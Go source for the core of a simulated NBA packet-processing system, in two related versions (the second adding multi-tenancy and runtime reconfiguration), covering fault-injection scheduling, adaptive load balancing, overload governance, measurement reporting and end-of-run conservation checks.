	local := s.cfg.Topology.DevicesOnSocket(socket)
	idx := anno - 1
	if idx < 0 || idx >= len(local) {
		return nil, fmt.Errorf("core: socket %d has no device for annotation %d", socket, anno)
	}
	return s.devices[local[idx]], nil
}

// applyRate pushes the current composed offered load (nominal rate ×
// burst factor, under the current generator's frame mix) to every queue.
func (s *System) applyRate() {
	pps := netio.OfferedPPS(s.curBps*s.rateFactor, s.curGen)
	now := s.eng.Now()
	for _, p := range s.ports {
		for _, q := range p.Rx {
			q.SetRate(now, pps/float64(len(p.Rx)))
		}
	}
}

// applyFault executes one fault-plan event and emits its trace record.
func (s *System) applyFault(ev fault.Event) {
	switch ev.Kind {
	case fault.DeviceFail:
		s.devices[ev.Device].Fail()
	case fault.DeviceRecover:
		s.devices[ev.Device].Recover()
	case fault.DeviceSlowdown:
		s.devices[ev.Device].SetSlowdown(ev.KernelFactor, ev.CopyFactor)
	case fault.DeviceHang:
		s.devices[ev.Device].Hang()
	case fault.RxQueueDown, fault.RxQueueUp:
		for qi, q := range s.ports[ev.Port].Rx {
			if ev.Queue == -1 || ev.Queue == qi {
				q.SetDown(ev.Kind == fault.RxQueueDown)
			}
		}
	case fault.RateBurst:
		s.rateFactor = ev.RateFactor
		s.applyRate()
	}
	if tr := s.cfg.Tracer; tr != nil {
		kind := trace.KindFaultInject
		if ev.Kind.IsRecovery() {
			kind = trace.KindFaultRecover
		}
		target, queue := int64(ev.Device), int64(0)
		switch ev.Kind {
		case fault.RxQueueDown, fault.RxQueueUp:
			target, queue = int64(ev.Port), int64(ev.Queue)
		case fault.RateBurst:
			target = int64(math.Float64bits(ev.RateFactor))
		}
		tr.Emit(s.eng.Now(), kind, -1, ev.Kind.String(), int64(ev.Kind), target, queue, 0)
	}
}

// Run executes the configured workload and returns the measurement report.
func (s *System) Run() (*Report, error) {
	s.curBps = s.cfg.OfferedBpsPerPort
	s.curGen = s.cfg.Generator
	s.rateFactor = 1

	// Stagger worker start times by one cycle each so their first events
	// interleave deterministically.
	for i, w := range s.workers {
		w := w
		s.eng.At(simtime.Time(i), func() { w.iterate() })
	}

	// Measurement window bracketing: Mark at the end of warmup, End when
	// arrivals stop, so post-stop queue draining is excluded from rates.
	s.eng.At(s.cfg.Warmup, func() {
		s.measuring = true
		for _, p := range s.ports {
			p.TxM.Mark(s.eng.Now())
		}
	})
	s.eng.At(s.stopTime, func() {
		for i, p := range s.ports {
			p.TxM.End(s.eng.Now())
			s.tailEndBytes[i] = p.TxM.Counter.WireBytes
		}
	})
	// Tail window: the last quarter of the measured duration, reported
	// separately so adaptive runs can be judged by their converged state
	// rather than the convergence transient.
	tailStart := s.stopTime - s.cfg.Duration/4
	if tailStart > s.cfg.Warmup {
		s.eng.At(tailStart, func() {
			for i, p := range s.ports {
				s.tailMarkBytes[i] = p.TxM.Counter.WireBytes
			}
			s.tailMarkTime = s.eng.Now()
		})
	}

	// Workload (generator) changes: swap the traffic mix, preserving the
	// offered wire rate under the new mean frame size.
	for _, gc := range s.cfg.GeneratorChanges {
		gc := gc
		if gc.At > s.stopTime || gc.Generator == nil {
			continue
		}
		s.eng.At(gc.At, func() {
			s.curGen = gc.Generator
			for _, p := range s.ports {
				for _, q := range p.Rx {
					q.SetGenerator(gc.Generator)
				}
			}
			s.applyRate()
		})
	}

	// Offered-load changes.
	for _, rc := range s.cfg.RateChanges {
		rc := rc
		if rc.At > s.stopTime {
			continue
		}
		s.eng.At(rc.At, func() {
			s.curBps = rc.BpsPerPort
			s.applyRate()
		})
	}

	// Scripted fault timeline. Sorted() fixes the application order for
	// same-time events, and the engine's scheduling sequence breaks ties
	// against other events deterministically.
	if plan := s.cfg.FaultPlan; plan != nil {
		for _, ev := range plan.Sorted() {
			ev := ev
			s.eng.At(ev.At, func() { s.applyFault(ev) })
		}
	}

	// ALB control loop: observe socket throughput, update the shared W.
	for socket, ctl := range s.controllers {
		if ctl == nil {
			continue
		}
		ctl := ctl
		socket := socket
		var lastPkts uint64
		var lastT simtime.Time
		var observe func()
		observe = func() {
			now := s.eng.Now()
			pkts := s.socketTxPackets(socket)
			if now > lastT {
				ctl.Observe(float64(pkts-lastPkts) / (now - lastT).Seconds())
			}
			lastPkts, lastT = pkts, now
			if now < s.stopTime {
				s.eng.After(s.cfg.ALBObserve, observe)
			}
		}
		s.eng.After(s.cfg.ALBObserve, observe)

		var lastFails uint64
		var update func()
		update = func() {
			// Completion failures since the last step steer the controller:
			// a failing device forces W toward the CPU regardless of the
			// throughput signal.
			fails := s.socketTaskFailures(socket)
			ctl.NoteTaskFailures(int(fails - lastFails))
			lastFails = fails
			if ctl.Bound > 0 {
				ctl.UpdateWithLatency(s.socketRecentP99(socket))
			} else {
				ctl.Update()
			}
			if s.eng.Now() < s.stopTime {
				s.eng.After(s.cfg.ALBUpdate, update)
			}
		}
		s.eng.After(s.cfg.ALBUpdate, update)
	}

	// Overload governor loop: once per window per socket, fold a saturation
	// observation and apply the resulting degradation level. Armed only when
	// overload control is configured, so ordinary runs keep their exact
	// event timeline (and their golden trace digests).
	if oc := s.cfg.Overload; oc != nil {
		for socket := range s.governors {
			socket := socket
			var prevDrops, prevShed uint64
			var tick func()
			tick = func() {
				s.governorTick(socket, &prevDrops, &prevShed)
				if s.eng.Now() < s.stopTime {
					s.eng.After(oc.GovernorWindow, tick)
				}
			}
			s.eng.After(oc.GovernorWindow, tick)
		}
	}

	// Drain watchdog: after arrivals stop, the run should drain within the
	// grace window. A worker that can never retire (a hung device with the
	// rescue timeout disabled, say) would otherwise idle-poll forever and
	// Run would never return. Armed only when a checker is attached or a
	// grace is set explicitly, so untracked runs keep their exact event
	// timeline (and their golden trace digests).
	if grace := s.cfg.DrainGrace; grace > 0 {
		s.eng.At(s.stopTime+grace, func() {
			stuck := 0
			for _, w := range s.workers {
				if !w.stopped {
					stuck++
				}
			}
			if stuck == 0 {
				return
			}
			s.cfg.Checker.StuckDrain(s.eng.Now(), stuck)
			s.eng.Stop()
		})
	}

	s.eng.Run()

	return s.report(), nil
}

// governorTick runs one overload-governor window for a socket: observe
// saturation (bounded device queue full or backlogged = device-side; RX
// drops or sheds still accruing = CPU-side), fold it into the governor and
// apply the resulting degradation level.
func (s *System) governorTick(socket int, prevDrops, prevShed *uint64) {
	oc := s.cfg.Overload
	g := s.governors[socket]
	now := s.eng.Now()

	devSat := false
	cm := s.cfg.CostModel
	for _, di := range s.cfg.Topology.DevicesOnSocket(socket) {
		d := s.devices[di]
		if d.Saturated() || (cm.MaxDeviceBacklog > 0 && d.Backlog() > cm.MaxDeviceBacklog) {
			devSat = true
			break
		}
	}
	drops := s.socketRxDropped(socket)
	shed := s.socketShed(socket)
	cpuSat := drops > *prevDrops || shed > *prevShed
	*prevDrops, *prevShed = drops, shed

	old := g.Level()
	lvl, changed := g.Observe(devSat || cpuSat)
	if changed {
		// Trim: shrink the offload aggregation age so packets stop maturing
		// behind a congested device; restore it on recovery below Trim.
		scale := 1.0
		if lvl >= overload.LevelTrim {
			scale = oc.TrimAgeScale
		}
		for _, w := range s.workers {
			if w.socket == socket {
				w.agg.AgeScale = scale
			}
		}
		// Leaving Bias on the way up releases the ALB weight bounds.
		if lvl < overload.LevelBias && old >= overload.LevelBias {
			if ctl := s.controllers[socket]; ctl != nil {
				ctl.SetWBounds(0, 1)
				s.emitBias(socket, 0, 1, devSat, cpuSat)
			}
		}
		if tr := s.cfg.Tracer; tr != nil {
			tr.Emit(now, trace.KindOverloadLevel, int32(socket), lvl.String(),
				int64(lvl), int64(old), b2i(devSat), b2i(cpuSat))
		}
	}
	// Bias ratchet: each saturated window at LevelBias and above with an
	// unambiguous direction moves the weight bound one step toward the
	// uncongested processor (device congested → ceiling down toward the CPU,
	// CPU congested → floor up toward the device).
	if lvl >= overload.LevelBias && devSat != cpuSat {
		if ctl := s.controllers[socket]; ctl != nil {
			lo, hi := ctl.WBounds()
			if devSat {
				hi = math.Max(lo, hi-oc.BiasStep)
			} else {
				lo = math.Min(hi, lo+oc.BiasStep)
			}
			ctl.SetWBounds(lo, hi)
			s.emitBias(socket, lo, hi, devSat, cpuSat)
		}
	}
}

func (s *System) emitBias(socket int, lo, hi float64, devSat, cpuSat bool) {
	if tr := s.cfg.Tracer; tr != nil {
		tr.Emit(s.eng.Now(), trace.KindOverloadBias, int32(socket), "bias",
			int64(math.Float64bits(lo)), int64(math.Float64bits(hi)),
			b2i(devSat), b2i(cpuSat))
	}
}

func b2i(b bool) int64 {
	if b {
		return 1
	}
	return 0
}

// socketRxDropped sums cumulative RX overflow + alloc-failure drops over the
// socket's ports.
func (s *System) socketRxDropped(socket int) uint64 {
	var total uint64
	for _, pid := range s.cfg.Topology.PortsOnSocket(socket) {
		_, dr, af := s.ports[pid].RxStats()
		total += dr + af
	}
	return total
}

// socketShed sums cumulative overload-control activity (shed packets plus
// admission rejections) over the socket's workers.
func (s *System) socketShed(socket int) uint64 {
	var total uint64
	for _, w := range s.workers {
		if w.socket == socket {
			total += w.shedPkts + w.rejectedTasks
		}
	}
	return total
}

// socketRecentP99 merges and resets the per-worker latency windows of one
// socket, returning the p99 observed since the last ALB update.
func (s *System) socketRecentP99(socket int) simtime.Time {
	var merged stats.Hist
	for _, w := range s.workers {
		if w.socket == socket {
			merged.Merge(&w.recentLat)
			w.recentLat.Reset()
		}
	}
	return merged.Percentile(99)
}

func (s *System) socketTxPackets(socket int) uint64 {
	var total uint64
	for _, w := range s.workers {
		if w.socket == socket {
			total += w.txPackets
		}
	}
	return total
}

// socketTaskFailures counts failed plus timed-out offload tasks across one
// socket's workers (cumulative).
func (s *System) socketTaskFailures(socket int) uint64 {
	var total uint64
	for _, w := range s.workers {
		if w.socket == socket {
			total += w.failedTasks + w.timedOutTasks
		}
	}
	return total
}

// Report is the outcome of a run.
type Report struct {
	// Measured is the measurement window length.
	Measured simtime.Time
	// TxGbps is the aggregate transmitted wire throughput.
	TxGbps float64
	// TxPPS is the aggregate transmitted packet rate.
	TxPPS float64
	// PerPortGbps is the per-port TX breakdown.
	PerPortGbps []float64
	// RxDelivered / RxDropped / AllocFailed aggregate NIC statistics over
	// the whole run (including warmup).
	RxDelivered uint64
	RxDropped   uint64
	AllocFailed uint64
	// Latency is the end-to-end latency distribution of packets
	// transmitted during the measurement window.
	Latency stats.Hist
	// FinalW is the offloading fraction at the end (adaptive runs).
	FinalW float64
	// LBTrace is socket 0's controller trace.
	LBTrace []lb.TracePoint
	// DeviceStats snapshots each accelerator.
	DeviceStats []gpu.Stats
	// GraphDrops counts packets dropped inside pipelines (all workers).
	GraphDrops uint64
	// TxPackets counts packets transmitted over the whole run (including
	// warmup), the TX side of the conservation identity
	// RxDelivered == TxPackets + GraphDrops + ShedPackets.
	TxPackets uint64
	// OffloadedPackets counts packets processed via accelerators.
	OffloadedPackets uint64
	// FallbackPackets counts packets rescued onto the CPU after their
	// offload task failed or timed out (subset of OffloadedPackets).
	FallbackPackets uint64
	// FailedTasks / TimedOutTasks count the worker-observed offload-task
	// failures behind those rescues.
	FailedTasks   uint64
	TimedOutTasks uint64
	// ShedPackets counts packets dropped by overload control (CoDel sojourn
	// shedding plus admission-rejected aggregates at LevelShed). Part of the
	// conservation identity RxDelivered == TxPackets + GraphDrops + Shed.
	ShedPackets uint64
	// RejectedTasks counts device submissions refused by admission control
	// (the bounded task queue was full), whether rescued or shed.
	RejectedTasks uint64
	// RxBacklogHWM is the deepest RX-ring backlog observed on any queue.
	RxBacklogHWM uint64
	// WorkerInflightHWM is the most outstanding device tasks any worker had.
	WorkerInflightHWM int
	// DeviceQueueHWM is the deepest task-queue occupancy observed on any
	// device — with overload control armed it never exceeds the configured
	// DeviceQueueDepth (the queue.bound invariant).
	DeviceQueueHWM int
	// OverloadPeak / OverloadFinal are the most severe and final governor
	// levels across sockets (always normal when overload control is off).
	OverloadPeak  overload.Level
	OverloadFinal overload.Level
	// TailGbps is the throughput over the last quarter of the measurement
	// window — the converged state of adaptive runs.
	TailGbps float64
	// Capture holds the first Config.CaptureTx transmitted frames.
	Capture []netio.CapturedPacket
	// NodeStats aggregates per-element-instance counters across all worker
	// replicas, keyed by the instance name from the configuration.
	NodeStats map[string]NodeStat
	// PoolOutstanding is the number of packets still outstanding at the
	// end — must be zero after a drained run (conservation check).
	PoolOutstanding int
}

func (s *System) report() *Report {
	r := &Report{Measured: s.eng.Now() - s.cfg.Warmup}
	if s.eng.Now() > s.stopTime {
		r.Measured = s.stopTime - s.cfg.Warmup
	}
	for _, p := range s.ports {
		pps, bps := p.TxM.RateWindow()
		r.TxGbps += stats.Gbps(bps)
		r.TxPPS += pps
		r.PerPortGbps = append(r.PerPortGbps, stats.Gbps(bps))
		d, dr, af := p.RxStats()
		r.RxDelivered += d
		r.RxDropped += dr
		r.AllocFailed += af
		for _, q := range p.Rx {
			if h := q.HighWatermark(); h > r.RxBacklogHWM {
				r.RxBacklogHWM = h
			}
		}
	}
	for _, w := range s.workers {
		r.Latency.Merge(&w.latency)
		r.GraphDrops += w.graphDrops()
		r.TxPackets += w.txPackets
		r.OffloadedPackets += w.offloadedPkts
		r.FallbackPackets += w.fallbackPkts
		r.FailedTasks += w.failedTasks
		r.TimedOutTasks += w.timedOutTasks
		r.ShedPackets += w.shedPkts
		r.RejectedTasks += w.rejectedTasks
		if w.inflightHWM > r.WorkerInflightHWM {
			r.WorkerInflightHWM = w.inflightHWM
		}
		r.PoolOutstanding += w.pktPool.Stats().Outstanding
	}
	for _, d := range s.devices {
		st := d.Stats()
		r.DeviceStats = append(r.DeviceStats, st)
		if st.MaxQueued > r.DeviceQueueHWM {
			r.DeviceQueueHWM = st.MaxQueued
		}
	}
	for _, g := range s.governors {
		if g.Peak() > r.OverloadPeak {
			r.OverloadPeak = g.Peak()
		}
		if g.Level() > r.OverloadFinal {
			r.OverloadFinal = g.Level()
		}
	}
	if dt := (s.stopTime - s.tailMarkTime).Seconds(); s.tailMarkTime > 0 && dt > 0 {
		var bytes uint64
		for i := range s.tailEndBytes {
			bytes += s.tailEndBytes[i] - s.tailMarkBytes[i]
		}
		r.TailGbps = stats.Gbps(float64(bytes) * 8 / dt)
	}
	if ctl := s.controllers[0]; ctl != nil {
		r.FinalW = ctl.W()
		r.LBTrace = ctl.Trace
	}
	r.Capture = s.captured
	r.NodeStats = map[string]NodeStat{}
	for _, w := range s.workers {
		for _, n := range w.g.Nodes {
			st := r.NodeStats[n.Name]
			st.Processed += n.Processed
			st.Dropped += n.Dropped
			st.Splits += n.Splits
			st.Reuses += n.Reuses
			r.NodeStats[n.Name] = st
		}
	}
	s.endOfRunChecks(r)
	return r
}

// endOfRunChecks runs the drain-time invariants. With a checker attached,
// violations are collected on it (the chaos driver needs the run to finish
// and report); without one, a pool leak still panics when the pools are in
// debug-checked mode (-tags debugChecks), keeping the original fail-fast
// behaviour for developer runs.
func (s *System) endOfRunChecks(r *Report) {
	now := s.eng.Now()
	ck := s.cfg.Checker
	// Drain-state invariants (pools empty, conservation) only hold for runs
	// that actually drained; after a watchdog force-stop the in-flight
	// packets are legitimately unaccounted, and drain.stuck already fired.
	drained := s.allWorkersStopped()
	if drained {
		for _, w := range s.workers {
			for _, assert := range []func() error{w.pktPool.AssertDrained, w.batchPool.AssertDrained} {
				err := assert()
				if err == nil {
					continue
				}
				switch {
				case ck != nil:
					ck.PoolDrained(now, err)
				case w.pktPool.DebugChecksEnabled():
					panic(fmt.Sprintf("core: worker %d: %v", w.id, err))
				}
			}
		}
	}
	if ck == nil {
		return
	}
	// Packet conservation over the whole run: every NIC-delivered packet is
	// accounted exactly once as transmitted, dropped inside a pipeline, or
	// shed by overload control.
	if drained {
		ck.Conservation(now, r.RxDelivered, r.TxPackets, r.GraphDrops, r.ShedPackets)
	}
	for i, d := range s.devices {
		st := d.Stats()
		ck.DeviceUtil(now, s.cfg.Topology.Devices[i].Name, st.KernelBusy, st.CopyBusy, st.LastFinish)
	}
	ck.EndOfRun(now)
}

// allWorkersStopped reports whether every worker retired normally (false
// after a watchdog force-stop).
func (s *System) allWorkersStopped() bool {
	for _, w := range s.workers {
		if !w.stopped {
			return false
		}
	}
	return true
}

// NodeStat is the aggregated activity of one element instance.
type NodeStat struct {
	Processed uint64
	Dropped   uint64
	Splits    uint64
	Reuses    uint64
}

// newWorkerRand derives a deterministic per-worker PRNG.
func (s *System) newWorkerRand(id int) *rng.Rand {
	return rng.New(s.cfg.Seed*0x9E3779B97F4A7C15 + uint64(id) + 1)
}
