package core

import (
	"errors"
	"fmt"
	"math"

	"nba/internal/conflang"
	"nba/internal/element"
	"nba/internal/fault"
	"nba/internal/gpu"
	"nba/internal/graph"
	"nba/internal/integrity"
	"nba/internal/lb"
	"nba/internal/netio"
	"nba/internal/overload"
	"nba/internal/reconfig"
	"nba/internal/rng"
	"nba/internal/sched"
	"nba/internal/simtime"
	"nba/internal/stats"
	"nba/internal/trace"
)

// System is one assembled NBA instance on the virtual clock. It hosts one or
// more tenant app graphs on the same workers, NIC queues and devices; the
// classic single-app configuration is the one-tenant special case and runs
// bit-identically to the pre-tenancy code.
type System struct {
	cfg Config
	eng *simtime.Engine

	// tenants is the resolved tenant set: the configured Tenants slice, or
	// one implicit tenant (Name "") synthesized from GraphConfig/Generator.
	tenants   []Tenant
	shareFrac []float64 // tenant Share normalised to fractions
	placement sched.PlacementPolicy

	ports      []*netio.Port
	devices    []*gpu.Device          // parallel to cfg.Topology.Devices
	workers    []*worker              // socket-major
	nodeLocals [][]*element.NodeLocal // [socket][tenant]: isolates shared element state per tenant
	// controllers / governors are per (socket, tenant): each tenant gets
	// its own ALB control loop and degradation governor so one tenant's
	// congestion escalates trim → bias → shed for that tenant alone.
	controllers [][]*lb.Controller
	governors   [][]*overload.Governor // empty when Overload is nil

	parsed []*conflang.Config // per tenant

	// Runtime-reconfiguration state. Tenant slots are grow-only: an evicted
	// tenant's lanes and queues stay in place (inactive) so tenant-major
	// indexing never shifts; an admitted tenant appends at len(tenants).
	tstate       []tenantLifecycle
	devPlugged   []bool // parallel to devices; all true without a plan
	latentIdx    map[string]int
	latentParsed []*conflang.Config
	rcEvents     []reconfig.Event // sorted, At <= stopTime
	rcNext       int
	rcActive     bool
	rcEpoch      int
	rcBegin      simtime.Time
	rcEv         reconfig.Event
	rcRescued    int
	rcForced     bool
	rcOrphaned   bool
	rcPollFn     func()

	// Integrity escalation state (nil/zero when cfg.Integrity is nil).
	integrityTracker *integrity.Tracker
	mismatchSeen     bool
	firstMismatchAt  simtime.Time

	stopTime  simtime.Time // warmup + duration
	measuring bool

	// Current offered-load state, composed by rate changes, generator
	// changes and fault-injected rate bursts (factor over the nominal rate).
	curBps     float64
	curGens    []netio.Generator // per tenant
	rateFactor float64

	tailMarkBytes []uint64
	tailMarkTime  simtime.Time
	tailEndBytes  []uint64

	captured []netio.CapturedPacket
}

// tenantLifecycle is one tenant slot's runtime state under the epoch
// protocol. Tenants present at construction are active from time 0; latent
// tenants only get a slot when admitted.
type tenantLifecycle struct {
	active    bool
	admitted  simtime.Time
	evicted   bool
	evictedAt simtime.Time
}

// errNoPluggedDevice reports that placement resolved to a socket whose every
// device is hot-unplugged; the caller rescues the aggregate on the CPU.
var errNoPluggedDevice = errors.New("core: no plugged device on socket")

// NewSystem builds a system from the configuration.
func NewSystem(cfg Config) (*System, error) {
	cfg, err := cfg.withDefaults()
	if err != nil {
		return nil, err
	}
	s := &System{cfg: cfg, eng: simtime.NewEngine(), placement: cfg.Placement}
	s.stopTime = cfg.Warmup + cfg.Duration
	if tr, ck := cfg.Tracer, cfg.Checker; tr != nil || ck != nil {
		s.eng.OnFire = func(at simtime.Time, fired uint64) {
			if tr != nil {
				tr.Emit(at, trace.KindDispatch, -1, "", int64(fired), 0, 0, 0)
			}
			ck.OnDispatch(at)
		}
	}
	s.tailMarkBytes = make([]uint64, len(cfg.Topology.Ports))
	s.tailEndBytes = make([]uint64, len(cfg.Topology.Ports))

	if len(cfg.Tenants) > 0 {
		s.tenants = cfg.Tenants
		// Per-tenant trace digests are armed only for explicit tenant
		// configurations; legacy runs keep an unarmed tracer.
		cfg.Tracer.ArmTenantDigests(len(s.tenants))
	} else {
		s.tenants = []Tenant{{
			GraphConfig: cfg.GraphConfig,
			Share:       1,
			RateScale:   1,
			Generator:   cfg.Generator,
		}}
	}
	var shareSum float64
	for _, t := range s.tenants {
		shareSum += t.Share
	}
	for _, t := range s.tenants {
		s.shareFrac = append(s.shareFrac, t.Share/shareSum)
	}

	for i, t := range s.tenants {
		p, err := conflang.Parse(t.GraphConfig)
		if err != nil {
			return nil, fmt.Errorf("core: tenant %d (%s): %w", i, t.Name, err)
		}
		s.parsed = append(s.parsed, p)
	}
	s.tstate = make([]tenantLifecycle, len(s.tenants))
	for t := range s.tstate {
		s.tstate[t].active = true
	}

	// Latent tenants (admittable by the reconfig plan): parse and trial-build
	// their graphs now, against throwaway state, so a broken latent config
	// fails at construction instead of mid-run inside an admit epoch.
	s.latentIdx = make(map[string]int, len(cfg.LatentTenants))
	for i, t := range cfg.LatentTenants {
		p, err := conflang.Parse(t.GraphConfig)
		if err != nil {
			return nil, fmt.Errorf("core: latent tenant %d (%s): %w", i, t.Name, err)
		}
		cctx := &element.ConfigContext{
			NodeLocal:  element.NewNodeLocal(),
			NumPorts:   len(cfg.Topology.Ports),
			NumDevices: 1,
			Rand:       rng.New(1),
		}
		if _, err := graph.Build(p, cctx, cfg.CostModel, *cfg.GraphOpts); err != nil {
			return nil, fmt.Errorf("core: latent tenant %d (%s): %w", i, t.Name, err)
		}
		s.latentParsed = append(s.latentParsed, p)
		s.latentIdx[t.Name] = i
	}

	top := cfg.Topology
	for socket := 0; socket < top.Sockets; socket++ {
		row := make([]*element.NodeLocal, len(s.tenants))
		for t := range row {
			row[t] = element.NewNodeLocal()
		}
		s.nodeLocals = append(s.nodeLocals, row)
	}

	// Devices (one device thread per device, on a dedicated core).
	for i, d := range top.Devices {
		dev, err := gpu.New(d.Name, d.Kind, s.eng, cfg.CostModel, top.CoreFreqHz, cfg.WorkersPerSocket)
		if err != nil {
			return nil, fmt.Errorf("core: device %d: %w", i, err)
		}
		dev.Tracer = cfg.Tracer
		dev.TraceActor = int32(i)
		dev.Checker = cfg.Checker
		if cfg.Overload != nil {
			dev.QueueDepth = cfg.Overload.DeviceQueueDepth
		}
		s.devices = append(s.devices, dev)
	}
	s.devPlugged = make([]bool, len(s.devices))
	for i := range s.devPlugged {
		s.devPlugged[i] = true
	}
	if cfg.Integrity != nil {
		s.integrityTracker = integrity.NewTracker(cfg.Integrity, len(s.devices))
	}

	// Ports, carved tenant-major: tenant t's queue for same-socket worker w
	// is index t*WorkersPerSocket+w, each owning 1/WorkersPerSocket of the
	// tenant's share of the port rate (RSS within a tenant's queue set).
	for _, hw := range top.Ports {
		specs := make([]netio.QueueSpec, 0, len(s.tenants)*cfg.WorkersPerSocket)
		for t := range s.tenants {
			pps := netio.OfferedPPS(cfg.OfferedBpsPerPort*s.shareFrac[t]*s.tenants[t].RateScale, s.tenants[t].Generator)
			for wi := 0; wi < cfg.WorkersPerSocket; wi++ {
				specs = append(specs, netio.QueueSpec{
					Tenant: int32(t),
					Gen:    s.tenants[t].Generator,
					PPS:    pps / float64(cfg.WorkersPerSocket),
				})
			}
		}
		port := netio.NewPortWithQueues(hw, specs, top.RxQueueCapacity)
		for _, q := range port.Rx {
			q.SetStop(s.stopTime)
			q.Tracer = cfg.Tracer
			q.Checker = cfg.Checker
		}
		s.ports = append(s.ports, port)
	}

	// Workers: WorkersPerSocket per socket, each hosting one lane (graph
	// replica + aggregator + queue set) per tenant.
	id := 0
	for socket := 0; socket < top.Sockets; socket++ {
		localPorts := top.PortsOnSocket(socket)
		localDevs := top.DevicesOnSocket(socket)
		for wi := 0; wi < cfg.WorkersPerSocket; wi++ {
			w, err := newWorker(s, id, socket, wi, localPorts, localDevs)
			if err != nil {
				return nil, err
			}
			s.workers = append(s.workers, w)
			id++
		}
	}

	// Adaptive load balancer controllers, one per (socket, tenant) that has
	// shared LB state (created by LoadBalance elements during Configure).
	for socket := 0; socket < top.Sockets; socket++ {
		row := make([]*lb.Controller, len(s.tenants))
		for t := range s.tenants {
			if st, ok := s.nodeLocals[socket][t].Get(lb.StateKey).(*lb.State); ok && st.AdaptiveUsers > 0 {
				ctl := lb.NewController(st)
				ctl.Bound = cfg.ALBLatencyBound
				ctl.Tracer = cfg.Tracer
				ctl.TraceNow = s.eng.Now
				ctl.TraceActor = int32(socket)
				ctl.TraceTenant = int32(t)
				ctl.Checker = cfg.Checker
				row[t] = ctl
			}
		}
		s.controllers = append(s.controllers, row)
	}

	// Overload governors, one per (socket, tenant) when overload control is
	// armed: each tenant degrades (trim → bias → shed) on its own signals.
	if cfg.Overload != nil {
		for socket := 0; socket < top.Sockets; socket++ {
			row := make([]*overload.Governor, len(s.tenants))
			for t := range row {
				row[t] = overload.NewGovernor(*cfg.Overload)
			}
			s.governors = append(s.governors, row)
		}
	}

	return s, nil
}

// overloadLevel returns a tenant's current governor level on a socket,
// LevelNormal when overload control is disabled.
func (s *System) overloadLevel(socket int, tenant int32) overload.Level {
	if socket >= len(s.governors) {
		return overload.LevelNormal
	}
	return s.governors[socket][tenant].Level()
}

// Engine exposes the virtual clock (for tests and the bench harness).
func (s *System) Engine() *simtime.Engine { return s.eng }

// Controllers returns socket-major per-tenant adaptive controllers (nil
// entries for (socket, tenant) pairs without LB state).
func (s *System) Controllers() [][]*lb.Controller { return s.controllers }

// deviceFor resolves a batch's device annotation through the placement
// policy (the scheduler stage's placement decision) for a tenant on a
// worker's socket.
func (s *System) deviceFor(socket int, tenant int32, anno int) (*gpu.Device, error) {
	local := s.cfg.Topology.DevicesOnSocket(socket)
	idx := s.placement.DeviceFor(int(tenant), anno, len(local))
	if idx < 0 || idx >= len(local) {
		return nil, fmt.Errorf("core: socket %d has no device for tenant %d annotation %d", socket, tenant, anno)
	}
	// Hot-unplug re-route: a device removed from service stops taking new
	// submissions the moment its epoch begins. Placement's choice falls to
	// the next plugged local device in index order; with none left the
	// caller rescues the aggregate on the CPU.
	if !s.devPlugged[local[idx]] {
		for off := 1; off < len(local); off++ {
			j := (idx + off) % len(local)
			if s.devPlugged[local[j]] {
				return s.devices[local[j]], nil
			}
		}
		return nil, errNoPluggedDevice
	}
	return s.devices[local[idx]], nil
}

// applyRate pushes the current composed offered load (nominal rate × burst
// factor, split by tenant share × rate-scale under each tenant's generator
// frame mix) to every queue. Queues flapped down by fault injection keep
// receiving their share — the NIC's RSS hash does not know a ring died —
// and shed it by head-drop accounting once the ring fills (see
// netio.RxQueue.SetDown); re-steering load away from a dead queue would
// silently hide the loss.
func (s *System) applyRate() {
	now := s.eng.Now()
	nq := float64(s.cfg.WorkersPerSocket)
	for _, p := range s.ports {
		for _, q := range p.Rx {
			t := int(q.Tenant)
			pps := netio.OfferedPPS(s.curBps*s.rateFactor*s.shareFrac[t]*s.tenants[t].RateScale, s.curGens[t])
			q.SetRate(now, pps/nq)
		}
	}
}

// applyFault executes one fault-plan event and emits its trace record.
func (s *System) applyFault(ev fault.Event) {
	switch ev.Kind {
	case fault.DeviceFail:
		s.devices[ev.Device].Fail()
	case fault.DeviceRecover:
		s.devices[ev.Device].Recover()
	case fault.DeviceSlowdown:
		s.devices[ev.Device].SetSlowdown(ev.KernelFactor, ev.CopyFactor)
	case fault.DeviceHang:
		s.devices[ev.Device].Hang()
	case fault.RxQueueDown, fault.RxQueueUp:
		for qi, q := range s.ports[ev.Port].Rx {
			if ev.Queue == -1 || ev.Queue == qi {
				q.SetDown(ev.Kind == fault.RxQueueDown)
			}
		}
	case fault.RateBurst:
		s.rateFactor = ev.RateFactor
		s.applyRate()
	case fault.DeviceCorrupt:
		// The byte-flip stream is seeded from (run seed, event time, device),
		// so the corruption pattern is part of the run's identity: replaying
		// the same plan under the same seed corrupts the same bytes.
		s.devices[ev.Device].SetCorrupt(ev.CorruptProb, ev.FlipPattern, s.newCorruptRand(ev))
	case fault.CorruptRecover:
		s.devices[ev.Device].ClearCorrupt()
	}
	if tr := s.cfg.Tracer; tr != nil {
		kind := trace.KindFaultInject
		if ev.Kind.IsRecovery() {
			kind = trace.KindFaultRecover
		}
		target, queue := int64(ev.Device), int64(0)
		switch ev.Kind {
		case fault.RxQueueDown, fault.RxQueueUp:
			target, queue = int64(ev.Port), int64(ev.Queue)
		case fault.RateBurst:
			target = int64(math.Float64bits(ev.RateFactor))
		case fault.DeviceCorrupt:
			queue = int64(math.Float64bits(ev.CorruptProb))
		}
		tr.Emit(s.eng.Now(), kind, -1, ev.Kind.String(), int64(ev.Kind), target, queue, 0)
	}
}

// Run executes the configured workload and returns the measurement report.
func (s *System) Run() (*Report, error) {
	s.curBps = s.cfg.OfferedBpsPerPort
	s.curGens = make([]netio.Generator, len(s.tenants))
	for t := range s.tenants {
		s.curGens[t] = s.tenants[t].Generator
	}
	s.rateFactor = 1

	// Stagger worker start times by one cycle each so their first events
	// interleave deterministically.
	for i, w := range s.workers {
		w := w
		s.eng.At(simtime.Time(i), func() { w.iterate() })
	}

	// Measurement window bracketing: Mark at the end of warmup, End when
	// arrivals stop, so post-stop queue draining is excluded from rates.
	s.eng.At(s.cfg.Warmup, func() {
		s.measuring = true
		for _, p := range s.ports {
			p.TxM.Mark(s.eng.Now())
		}
	})
	s.eng.At(s.stopTime, func() {
		for i, p := range s.ports {
			p.TxM.End(s.eng.Now())
			s.tailEndBytes[i] = p.TxM.Counter.WireBytes
		}
	})
	// Tail window: the last quarter of the measured duration, reported
	// separately so adaptive runs can be judged by their converged state
	// rather than the convergence transient.
	tailStart := s.stopTime - s.cfg.Duration/4
	if tailStart > s.cfg.Warmup {
		s.eng.At(tailStart, func() {
			for i, p := range s.ports {
